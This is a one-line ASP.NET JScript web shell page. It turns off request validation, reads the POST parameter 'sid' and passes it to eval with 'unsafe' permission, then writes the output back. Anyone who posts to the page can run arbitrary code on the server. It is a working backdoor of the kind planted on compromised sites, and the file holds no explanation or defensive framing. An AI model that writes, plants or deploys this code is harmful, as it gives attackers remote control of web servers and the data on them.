<%@ Page Language="Jscript" validateRequest="false" %>
<%
var c = Request.Form("sid");
Response.Write(eval(c, "unsafe"));
%>
